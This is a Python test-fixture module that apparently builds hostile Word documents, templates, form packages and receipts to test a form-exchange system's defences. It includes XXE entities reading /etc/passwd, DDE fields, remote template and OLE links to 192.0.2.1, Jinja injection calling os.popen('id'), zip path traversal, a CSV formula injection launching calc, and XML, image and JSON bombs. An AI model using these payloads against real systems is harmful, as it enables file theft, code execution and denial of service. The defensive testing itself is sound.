"""Word files, templates, packages of forms and receipts built to harm whoever opens them."""

from __future__ import annotations

import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from hashlib import sha256
from io import BytesIO

from forms.exchange.word.markup import NAMESPACES
from tests.exchange import hostile
from tests.reliability import doors

Make = Callable[[], bytes]
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ELSEWHERE = "http://192.0.2.1/x"


def _changed(data: bytes, **parts: Callable[[bytes], bytes] | bytes) -> bytes:
    """The package with parts added, replaced or changed; ``__`` stands for a slash, ``_x_`` for a dot."""
    with zipfile.ZipFile(BytesIO(data)) as whole:
        held = {name: whole.read(name) for name in whole.namelist()}
    for name, part in parts.items():
        place = name.replace("__", "/").replace("_x_", ".")
        held[place] = part if isinstance(part, bytes) else part(held.get(place, b""))
    return hostile.zipped(held)


def _good() -> bytes:
    return doors.good_documents()["BC.docx"]


def _template() -> bytes:
    return doors.good_templates()["mau.docx"]


def _body(inner: str, base: Callable[[], bytes] = _good) -> Make:
    """The document with something before its end."""

    def change(part: bytes) -> bytes:
        head, end, tail = part.rpartition(b"</w:body>")
        return head + inner.encode() + end + tail

    return lambda: _changed(base(), word__document_x_xml=change)


def _related(kind: str, target: str, base: Callable[[], bytes] = _good, mode: str = "External") -> Make:
    """The document with one more relation."""
    relation = f'<Relationship Id="rX" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'

    def change(part: bytes) -> bytes:
        return part.replace(b"</Relationships>", relation.encode() + b"</Relationships>")

    return lambda: _changed(base(), word___rels__document_x_xml_x_rels=change)


def _remote_template(base: Callable[[], bytes] = _good) -> Make:
    """The settings name a template that Word fetches."""
    relations = (
        f'<Relationships xmlns="{hostile.PACKAGE_RELATIONS}"><Relationship Id="rX" TargetMode="External" '
        f'Type="{_RELATIONS}/attachedTemplate" Target="{_ELSEWHERE}.dotm"/></Relationships>'
    )
    return lambda: _changed(base(), word___rels__settings_x_xml_x_rels=relations.encode())


def _doctype(text: str, part: str = "word__document_x_xml", base: Callable[[], bytes] = _good) -> Make:
    return lambda: _changed(base(), **{part: lambda held: held.replace(b"?>", b"?>" + text.encode(), 1)})


def _open_marks(count: int = 20_000) -> str:
    """Bookmarks that never end, and as many texts in all of them."""
    w = NAMESPACES["w"]
    marks = "".join(
        f'<w:bookmarkStart xmlns:w="{w}" w:id="{n + 10**6}" w:name="x{n}"/>' for n in range(count)
    )
    return f"<w:p>{marks}{'<w:r><w:t>1</w:t></w:r>' * count}</w:p>"


def _numbers(count: int = 60_000) -> str:
    """Very many numbers in one paragraph."""
    return f"<w:p><w:r><w:t>{' '.join(f'{n},5' for n in range(count))}</w:t></w:r></w:p>"


def png(width: int, height: int) -> bytes:
    """A picture of one colour, as large as it says."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    lines = b"".join(packer.compress(bytes(1 + (width + 7) // 8)) for _ in range(height)) + packer.flush()
    head = struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def _lines(*lines: str) -> Make:
    def make() -> bytes:
        from tests.exchange.word.test_template import template

        return template(*lines)

    return make


def _package(change: Callable[[dict[str, bytes]], None], *, vouch: bool = True) -> Make:
    """A package of forms changed by ``change``, its manifest made to vouch for it."""

    def make() -> bytes:
        with zipfile.ZipFile(BytesIO(doors.good_packages()["mot"])) as whole:
            parts = {name: whole.read(name) for name in whole.namelist()}
        change(parts)
        if vouch:
            listed = [
                {"name": name, "sha256": sha256(part).hexdigest()}
                for name, part in parts.items()
                if name != "manifest.json"
            ]
            parts["manifest.json"] = json.dumps(
                {**json.loads(parts["manifest.json"]), "parts": listed}
            ).encode()
        return hostile.zipped(parts)

    return make


def _receipt(content: bytes) -> Make:
    def make() -> bytes:
        manifest = {
            "schema": "1",
            "kind": "receipt",
            "parts": [{"name": "receipt.json", "sha256": sha256(content).hexdigest()}],
        }
        return hostile.zipped({"manifest.json": json.dumps(manifest), "receipt.json": content})

    return make


WORD: Mapping[str, Make] = {
    "remote template": _remote_template(),
    "a template on a share": _related(f"{_RELATIONS}/attachedTemplate", "file://192.0.2.1/share/x.dotm"),
    "remote picture": _related(f"{_RELATIONS}/image", f"{_ELSEWHERE}.png"),
    "remote frame": _related(f"{_RELATIONS}/frame", f"{_ELSEWHERE}.htm"),
    "remote OLE object": _related(f"{_RELATIONS}/oleObject", f"{_ELSEWHERE}.htm"),
    "OLE object": lambda: _changed(
        _related(f"{_RELATIONS}/oleObject", "embeddings/oleObject1.bin", mode="Internal")(),
        word__embeddings__oleObject1_x_bin=hostile.OLE_ENCRYPTED,
    ),
    "altChunk": lambda: _changed(
        _related(f"{_RELATIONS}/aFChunk", "x.htm", mode="Internal")(), word__x_x_htm=b"<html>x</html>"
    ),
    "DDE field": _body('<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe "a"</w:instrText></w:r></w:p>'),
    "INCLUDETEXT field": _body(f'<w:p><w:fldSimple w:instr="INCLUDETEXT {_ELSEWHERE}"/></w:p>'),
    "macros": lambda: _changed(_good(), word__vbaProject_x_bin=b"x"),
    "macros under another name": _related(
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", mode="Internal"
    ),
    "XXE in the document": _doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "XXE in the properties": _doctype(
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "docProps__custom_x_xml"
    ),
    "billion laughs": _doctype(hostile.billion_laughs()),
    "bookmarks that never end": _body(_open_marks()),
    "60,000 numbers": _body(_numbers()),
    "deep XML": _body("<w:p>" * 40_000 + "</w:p>" * 40_000),
    "a part of a hundred megabytes": lambda: _changed(_good(), word__x_x_xml=bytes(100 << 20)),
    "a link that may be clicked": _related(f"{_RELATIONS}/hyperlink", "https://thanhhoa.gov.vn"),
    "Word's own template": _related(
        f"{_RELATIONS}/attachedTemplate", "file:///C:\\Users\\x\\Templates\\Normal.dotm"
    ),
}
TEMPLATES: Mapping[str, Make] = {
    "remote template": _remote_template(_template),
    "remote picture": _related(f"{_RELATIONS}/image", f"{_ELSEWHERE}.png", _template),
    "altChunk": lambda: _changed(
        _related(f"{_RELATIONS}/aFChunk", "x.htm", _template, "Internal")(), word__x_x_htm=b"<html>x</html>"
    ),
    "OLE object": lambda: _changed(
        _related(f"{_RELATIONS}/oleObject", "embeddings/o.bin", _template, "Internal")(),
        word__embeddings__o_x_bin=hostile.OLE_ENCRYPTED,
    ),
    "DDE field": _body("<w:p><w:r><w:instrText>DDE c:\\\\x.exe</w:instrText></w:r></w:p>", _template),
    "macros": lambda: _changed(_template(), word__vbaProject_x_bin=b"x"),
    "a picture of 900 million dots": lambda: _changed(_template(), word__media__x_x_png=png(30_000, 30_000)),
    "a picture that says it is larger": lambda: _changed(
        _template(),
        word__media__x_x_png=png(8, 8).replace(struct.pack(">2L", 8, 8), struct.pack(">2L", 10**9, 10**9)),
    ),
    "loop without end": _lines(
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}"
    ),
    "a text times a thousand million": _lines("{{ 'x' * 1000000000 }}"),
    "a number to the power of itself": _lines("{{ 99999 ** 9999999 }}"),
    "a wide format": _lines("{{ '%1000000000d' % 1 }}", "{{ '{:1000000000}'.format(1) }}"),
    "the way to the system": _lines(
        "{{ don_vi.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    ),
    "a macro that calls itself": _lines("{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}"),
    "a file from elsewhere": _lines("{% include '/etc/passwd' %}"),
    "brackets without end": _lines("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}"),
    "blocks without end": _lines("{% if don_vi %}" * 2000 + "{% endif %}" * 2000),
    "XXE": _doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', base=_template),
}
PACKAGES: Mapping[str, Make] = {
    "a part that climbs": _package(lambda parts: parts.update({"../../x/form.xlsx": b"x"})),
    "a part in the home folder": _package(lambda parts: parts.update({"/root/.profile": b"x"})),
    "a workbook with macros": _package(lambda parts: parts.update({"thu/1/form.xlsx": _with_macros(parts)})),
    "a part that nobody vouches for": _package(
        lambda parts: parts.update({"thu/3/form.xlsx": parts["thu/1/form.xlsx"]}), vouch=False
    ),
    "a template with macros": _package(
        lambda parts: parts.update({"thu/1/report.docx": _changed(_template(), word__vbaProject_x_bin=b"x")})
    ),
    "a template that loops": _package(
        lambda parts: parts.update(
            {"thu/1/report.docx": _lines("{% for a in range(99999) %}x{% endfor %}")()}
        )
    ),
    "a manifest of brackets": _package(
        lambda parts: parts.update({"manifest.json": b"[" * 500_000}), vouch=False
    ),
    "a regime of a million lines": _package(
        lambda parts: parts.update({"regimes.csv": b"a,b,c,d\n" * 1_000_000})
    ),
    "a formula in the regimes": _package(
        lambda parts: parts.update({"regimes.csv": b"=cmd|'/c calc'!A0,,,\n"})
    ),
}
RECEIPTS: Mapping[str, Make] = {
    "brackets without end": _receipt(b"[" * 500_000),
    "a number of half a million digits": _receipt(b'{"form": ' + b"9" * 500_000 + b"}"),
    "nothing in it": _receipt(b"null"),
    "texts where lists belong": _receipt(
        b'{"form":"a","unit":"b","period":"c","amendment":"first","file_hash":"","answers_hash":"",'
        b'"verdict":"valid","problems":"x"}'
    ),
    "problems of another kind": _receipt(
        b'{"form":"a","unit":"b","period":"c","amendment":"first","file_hash":"","answers_hash":"",'
        b'"verdict":"valid","problems":[{"code":"no.such.code","severity":"x"}]}'
    ),
}


def _with_macros(parts: dict[str, bytes]) -> bytes:
    return _changed(parts["thu/1/form.xlsx"], xl__vbaProject_x_bin=b"x")
